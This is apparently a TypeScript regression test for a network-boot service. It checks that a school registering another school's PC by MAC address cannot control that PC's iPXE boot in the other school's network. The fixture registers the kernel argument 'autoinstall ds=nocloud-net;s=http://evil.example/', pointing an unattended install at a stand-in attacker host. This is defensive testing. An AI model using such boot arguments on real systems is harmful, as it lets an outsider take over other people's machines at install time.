// A school's admin registering the MAC of another school's PC (read off its sticker, before it
// ever booted) must not take over its boot: the registration counts in its own branch's
// networks only. Before, the machine booting in school B got school A's image and kernel
// arguments (here an autoinstall from a server of A's choosing).
import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import { makeFixture, type Fixture } from '../../unit/api/helpers.ts';

let f: Fixture;
const MAC = '02:bb:00:00:00:09';
before(async () => {
  f = await makeFixture({ machinesPerBranch: 1, users: false });
  const r = await f.req('POST', '/api/v1/machines', {
    token: f.tokens.writeA,
    body: { mac: MAC, branchId: f.branchA, image: 'ubuntu', kernelArgs: 'autoinstall ds=nocloud-net;s=http://evil.example/' },
    headers: { 'content-type': 'application/json' },
  });
  assert.equal(r.statusCode, 201, r.body);
});
after(async () => { await f.close(); });

test('booting in another branch\'s network: neither the iPXE script nor the DHCP plan is the registering branch\'s', async () => {
  const http = await f.app.inject({ method: 'GET', url: `/boot/${MAC}.ipxe`, remoteAddress: '10.2.0.50' });
  assert.equal(http.statusCode, 200);
  assert.doesNotMatch(http.body, /evil\.example|images\/ubuntu/);
  const plan = await f.ctx.planner.plan({ mac: MAC, arch: 7, ipxe: true, clientIp: '10.2.0.50', branchId: f.branchB });
  assert.equal(plan.kind, 'error');
  assert.doesNotMatch(plan.script, /evil\.example/);
});

test('in its own branch\'s network, and in the console\'s preview, the registration holds', async () => {
  const http = await f.app.inject({ method: 'GET', url: `/boot/${MAC}.ipxe`, remoteAddress: '10.1.0.50' });
  assert.match(http.body, /images\/ubuntu\/2\/vmlinuz/);
  assert.match(http.body, /evil\.example/);
  const preview = await f.req('GET', `/api/v1/machines/${MAC}/boot-plan`, { token: f.tokens.readA });
  assert.equal(preview.statusCode, 200);
  assert.match(preview.body, /"kind":"image"/);
});
